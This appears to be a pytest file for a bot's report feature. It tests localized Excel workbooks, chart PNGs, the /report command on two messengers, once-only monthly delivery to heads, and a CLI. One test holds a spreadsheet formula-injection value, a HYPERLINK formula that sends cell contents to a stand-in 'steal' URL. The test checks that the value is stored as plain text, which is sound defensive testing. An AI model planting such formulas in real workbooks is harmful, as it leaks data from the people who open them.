"""Reports for heads and coordinators: the workbook opens with openpyxl with its sheets and headers
in the reader's language; the charts are real PNGs with something drawn; /report sends the files on
both messengers; the monthly report goes to the heads by itself, once, even with two ticks;
`python -m bot report` writes the files. The figures themselves: tests/test_report_figures.py."""

from __future__ import annotations

import asyncio
import dataclasses
import io
import os
import sqlite3
import subprocess
import sys
from datetime import datetime, timedelta
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest

import scheduler.reports as scheduler_reports
from bot.db.models import Account, Person, Role
from bot.services.reports.broadcasts import BroadcastFigures
from bot.services.reports.build import report_files
from bot.services.reports.consultations import ConsultationFigures, ConsultationGroup
from bot.services.reports.figures import Report
from bot.services.reports.period import Period
from bot.services.reports.reach import ReachFigures
from bot.services.reports.text import period_name
from handlers.reports import ReportPick, ReportStep
from scheduler.reports import due_reports, send_reports, send_to_heads
from tests.conftest import RunningBot, make_settings
from tests.helpers import CONTENT, TEXTS, step
from tests.report_month import (
    OCTOBER,
    RESULTS,
    ZONE,
    a_month,
    october_report,
    report_sessionmaker,  # noqa: F401 (the sessionmaker fixture)
    write,
)
from tests.test_office_hours import plain

pytestmark = pytest.mark.both_databases


# the files


async def test_the_workbook_has_its_sheets_and_headers_in_the_readers_language(sessionmaker):
    from openpyxl import load_workbook

    report = await october_report(sessionmaker, a_month())
    for language in ("ru", "en"):
        texts = TEXTS[language]
        files = report_files(report, texts, charts=False)
        assert [file.name for file in files] == [f"vmeste-report-2026-10-{language}.xlsx"]
        book = load_workbook(io.BytesIO(files[0].data))
        assert book.sheetnames == [texts(key) for key in (
            "report.sheet_summary", "report.sheet_results", "report.sheet_courses", "report.sheet_consultations", "report.sheet_specialists",
            "report.sheet_questions", "report.sheet_broadcasts", "report.sheet_chats",
        )]
        header = [cell.value for cell in book[texts("report.sheet_questions")][1]]
        assert header == [texts(f"report.col_{name}") for name in (
            "number", "specialty", "asked_at", "claimed_at", "answered_at", "closed_at", "to_claim", "to_answer", "to_close", "rating")]
        questions = list(book[texts("report.sheet_questions")].iter_rows(min_row=2, values_only=True))
        assert len(questions) == report.consultations.total.asked
        assert all(isinstance(row[0], int) for row in questions)
        text = "\n".join(str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row)
        assert "Olga" not in text and "thanks" not in text and "K-1" not in text  # no names, no text, no alias
        assert texts("report.col_likes") in [cell.value for cell in book[texts("report.sheet_courses")][1]]
        results = book[texts("report.sheet_results")]
        assert results["A2"].value == RESULTS.questions[0].texts[language] and results["C2"].value == 80
        summary_sheet = book[texts("report.sheet_summary")]
        assert summary_sheet["A1"].value == texts("report.col_figure") and summary_sheet["B3"].value == report.reach.families


async def test_the_charts_are_pngs_with_something_drawn(sessionmaker):
    from PIL import Image

    report = await october_report(sessionmaker, a_month())
    files = report_files(report, TEXTS["ru"])
    charts = [file for file in files if file.is_chart]
    assert [file.name for file in charts][:4] == [f"vmeste-report-2026-10-result-{name}-ru.png" for name in ("informed", "skills", "distance", "together")]
    assert {"courses", "consultations", "chats", "reach"} <= {file.name.split("-")[4] for file in charts}
    for file in charts:
        image = Image.open(io.BytesIO(file.data))
        assert image.format == "PNG"
        width, height = image.size
        assert 800 <= width <= 2000 and 400 <= height <= 1400, (file.name, image.size)
        colours = image.convert("RGB").getcolors(maxcolors=1_000_000)
        assert colours is not None and len(colours) > 20, file.name  # text, bars and lines, not a blank
        assert 20_000 < len(file.data) < 1_000_000


# /report on both messengers, the heads' monthly report, the CLI

HEAD, COORDINATOR, PARENT = 7801, 7802, 7803


def file_names(emulator, user) -> list[str]:
    """The names of the files the bot sent the user, in order."""
    if emulator.platform == "telegram":
        return [message.raw["document"]["file_name"] for message in user.bot_messages if "document" in message.raw]
    return [attachment["doc"]["title"] for message in user.bot_messages for attachment in message.attachments if attachment["type"] == "doc"]


async def add_people(running, platform: str) -> None:
    async with running.sessionmaker() as session:
        session.add(Person(language="ru", roles=[Role(role="head")], accounts=[Account(platform=platform, external_id=HEAD)]))
        session.add(Person(language="en", roles=[Role(role="coordinator")], accounts=[Account(platform=platform, external_id=COORDINATOR)]))
        session.add(Person(language="en", roles=[Role(role="parent")], accounts=[Account(platform=platform, external_id=PARENT)]))
        await session.commit()


async def test_report_sends_the_workbook_the_charts_and_the_summary(emulator, database_url):
    async with RunningBot(make_settings(emulator, database_url)) as running:
        await add_people(running, emulator.platform)
        await write(running.sessionmaker, a_month())
        coordinator, parent = emulator.user(COORDINATOR, language_code="en"), emulator.user(PARENT, language_code="en")
        texts = TEXTS["en"]
        await step(emulator, lambda: coordinator.send("/broadcasts"))
        await step(emulator, lambda: coordinator.click(texts("report.menu")))
        assert coordinator.last.text == plain(texts("report.choose"))
        await step(emulator, lambda: coordinator.click(texts("report.other_month")))
        now = running.clock.now()
        months_back = (now.year - 2026) * 12 + now.month - 10
        assert coordinator.last.text == texts("report.pick_month")
        if 0 <= months_back < 6:  # October 2026 is on the first page while it is recent: else a month of nothing
            label = period_name(OCTOBER, "en")
        else:
            label = period_name(Period.month_of(now, "UTC", back=1), "en")
        coordinator.click(label)
        await emulator.settle(timeout=60)  # the charts take seconds to draw (matplotlib's import first), more on a busy machine
        names = file_names(emulator, coordinator)
        assert names[0].endswith("-en.xlsx") and len(names) >= 2 and all(name.endswith("-en.png") for name in names[1:])
        assert texts("report.summary_title", period=label) in coordinator.last.text
        # a parent may not: neither the command nor a forged press
        await step(emulator, lambda: parent.send("/report"))
        assert file_names(emulator, parent) == [] and texts("report.choose") not in (parent.last.text or "")
        forged = ReportPick(step=ReportStep.make, period="2026-10").pack()
        await step(emulator, lambda: emulator.press(parent, forged))
        assert file_names(emulator, parent) == []
        # a forged period is refused, not parsed
        before = len(coordinator.bot_messages)
        await step(emulator, lambda: emulator.press(coordinator, ReportPick(step=ReportStep.make, period="2026-13").pack()))
        assert len(coordinator.bot_messages) == before
    assert emulator.rejected == []


async def test_the_monthly_report_goes_to_the_heads_once_even_with_two_ticks(emulator, database_url):
    async with RunningBot(make_settings(emulator, database_url, DEFAULT_TIMEZONE=ZONE)) as running:
        await add_people(running, emulator.platform)
        head, coordinator = emulator.user(HEAD, language_code="ru"), emulator.user(COORDINATOR, language_code="en")
        bots, content, settings = running.bots.by_platform(), running.app.content, running.settings
        local = running.clock.now().astimezone(ZoneInfo(ZONE))
        first = (local.replace(day=1) + timedelta(days=32)).replace(day=1, hour=8, minute=59, second=0, microsecond=0)
        running.clock.advance(first - local)
        assert await send_reports(running.sessionmaker, bots, content, settings, running.clock) == []  # not yet: 08:59
        running.clock.advance(timedelta(minutes=2))
        ticks = await asyncio.gather(*(send_reports(running.sessionmaker, bots, content, settings, running.clock) for _ in range(2)))
        await emulator.settle(timeout=30)
        period = Period.month_of(running.clock.now(), ZONE, back=1)
        assert sorted(len(sent) for sent in ticks) == [0, 1] and ticks[0] + ticks[1] == [f"report:monthly:{period.key}"]
        names = file_names(emulator, head)
        assert names[0] == f"vmeste-report-{period.key}-ru.xlsx" and names.count(names[0]) == 1
        ru = TEXTS["ru"]
        assert any(message.caption == ru("report.monthly_caption", period=period_name(period, "ru")) for message in head.bot_messages)
        assert ru("report.summary_title", period=period_name(period, "ru")) in head.last.text
        assert file_names(emulator, coordinator) == []  # the heads alone get it by itself
        running.clock.advance(timedelta(hours=1))
        assert await send_reports(running.sessionmaker, bots, content, settings, running.clock) == []  # sent already
    assert emulator.rejected == []


async def test_a_report_that_could_not_be_made_is_made_at_the_next_tick(emulator, database_url, monkeypatch):
    """The right to send is given back when the report fails before anything went out; a head with
    no account is passed over."""
    async with RunningBot(make_settings(emulator, database_url, DEFAULT_TIMEZONE=ZONE)) as running:
        await add_people(running, emulator.platform)
        async with running.sessionmaker() as session:
            session.add(Person(language="ru", roles=[Role(role="head")]))  # no account on any messenger
            await session.commit()
        head = emulator.user(HEAD, language_code="ru")
        bots, content, settings = running.bots.by_platform(), running.app.content, running.settings
        local = running.clock.now().astimezone(ZoneInfo(ZONE))
        running.clock.advance((local.replace(day=1) + timedelta(days=32)).replace(day=1, hour=9, minute=1, second=0, microsecond=0) - local)
        real = scheduler_reports.make_report
        failures = [RuntimeError("the database went away")]

        async def failing_once(*args, **kwargs):
            if failures:
                raise failures.pop()
            return await real(*args, **kwargs)

        monkeypatch.setattr(scheduler_reports, "make_report", failing_once)
        assert await send_reports(running.sessionmaker, bots, content, settings, running.clock) == []
        assert file_names(emulator, head) == []
        running.clock.advance(timedelta(minutes=5))
        period = Period.month_of(running.clock.now(), ZONE, back=1)
        assert await send_reports(running.sessionmaker, bots, content, settings, running.clock) == [f"report:monthly:{period.key}"]
        await emulator.settle(timeout=30)
        assert file_names(emulator, head)[0] == f"vmeste-report-{period.key}-ru.xlsx"
    assert emulator.rejected == []


class RecordingBot:
    """send_document and send_message as a bot does them, or failing as the VK bridge does on a method it cannot map."""

    def __init__(self, error: Exception | None = None) -> None:
        self.error, self.sent = error, []

    async def send_document(self, chat_id, document, caption=None):
        if self.error is not None:
            raise self.error
        self.sent.append((chat_id, document.filename))

    async def send_message(self, chat_id, text):
        self.sent.append((chat_id, "summary"))


async def test_one_heads_failed_send_does_not_keep_the_report_from_the_others():
    report = empty_report()
    files_of = {language: report_files(report, TEXTS[language], charts=False) for language in ("ru", "en")}
    broken, working = RecordingBot(RuntimeError("the VK bridge cannot map the Bot API method sendDocument")), RecordingBot()
    heads = [("ru", SimpleNamespace(platform="vk", external_id=1)), ("en", SimpleNamespace(platform="telegram", external_id=2))]
    told = await send_to_heads({"vk": broken, "telegram": working}, CONTENT, report, heads, files_of, "monthly")  # type: ignore[arg-type]
    assert told == 1 and working.sent == [(2, "vmeste-report-2026-10-en.xlsx"), (2, "summary")]


def test_a_name_typed_as_a_formula_stays_text_in_the_workbook():
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.com/steal?"&A1,"Anna")'
    report = empty_report()
    consultations = dataclasses.replace(report.consultations, by_specialist=(ConsultationGroup(formula, asked=1),))
    texts = TEXTS["en"]
    book = load_workbook(io.BytesIO(report_files(dataclasses.replace(report, consultations=consultations), texts, charts=False)[0].data))
    cell = book[texts("report.sheet_specialists")]["A2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_the_reach_pie_leaves_out_a_wedge_of_nobody():
    from bot.services.reports.charts import reach_wedges

    texts = TEXTS["ru"]
    assert [value for _label, value, _colour in reach_wedges(ReachFigures(12, 0, 0), texts)] == [12]
    assert [value for _label, value, _colour in reach_wedges(ReachFigures(12, 12, 0), texts)] == [12]
    assert [value for _label, value, _colour in reach_wedges(ReachFigures(60, 32, 0), texts)] == [32, 28]
    files = report_files(dataclasses.replace(empty_report(), reach=ReachFigures(12, 0, 0)), texts)
    assert any(file.name.endswith("-reach-ru.png") for file in files)


def empty_report() -> Report:
    return Report(OCTOBER, (), (), ConsultationFigures(ConsultationGroup(""), (), (), ()), BroadcastFigures(), (), ReachFigures())


def test_reports_fall_due_on_the_first_and_on_the_tenth_of_january():
    moscow = ZoneInfo(ZONE)
    assert due_reports(datetime(2026, 11, 1, 9, 0, tzinfo=moscow), ZONE) == [("monthly", OCTOBER)]
    assert due_reports(datetime(2026, 11, 1, 8, 59, tzinfo=moscow), ZONE) == []
    assert due_reports(datetime(2026, 11, 3, 23, 0, tzinfo=moscow), ZONE) == [("monthly", OCTOBER)]  # the bot was down on the day
    assert due_reports(datetime(2026, 11, 5, 9, 0, tzinfo=moscow), ZONE) == []
    assert due_reports(datetime(2027, 1, 10, 9, 30, tzinfo=moscow), ZONE) == [("annual", Period(2026, None, ZONE))]
    assert due_reports(datetime(2027, 1, 1, 9, 30, tzinfo=moscow), ZONE) == [("monthly", Period(2026, 12, ZONE))]


@pytest.mark.starts_processes
def test_the_cli_writes_the_workbook_and_the_charts(tmp_path):
    url = f"sqlite+aiosqlite:///{tmp_path / 'vmeste.db'}"
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PYTHONPATH": os.environ.get("PYTHONPATH", ""), "DATABASE_URL": url, "DEFAULT_TIMEZONE": ZONE}
    out = tmp_path / "out" / "report.xlsx"
    sqlite3.connect(tmp_path / "vmeste.db").close()  # the bot's database (empty: the report brings its schema up to date)
    command = [sys.executable, "-m", "bot", "report", "--month", "2026-10", "--out", str(out), "--language", "ru"]
    result = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert TEXTS["ru"]("report.summary_title", period="октябрь 2026") in result.stdout
    assert out.exists() and str(out) in result.stdout
    charts = sorted(path.name for path in out.parent.glob("*.png"))
    assert charts and all(name in result.stdout for name in charts)
    wrong = subprocess.run([*command[:5], "2026-13"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert wrong.returncode == 2 and wrong.stderr.count("\n") == 1 and "YYYY-MM" in wrong.stderr and "Traceback" not in wrong.stderr
    elsewhere = env | {"DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'typo.db'}"}  # a mistyped path: no report of an empty centre
    missing = subprocess.run(command, cwd=tmp_path, env=elsewhere, capture_output=True, text=True, timeout=60)
    assert missing.returncode == 2 and "there is no database at" in missing.stderr and "Traceback" not in missing.stderr
    assert not (tmp_path / "typo.db").exists()
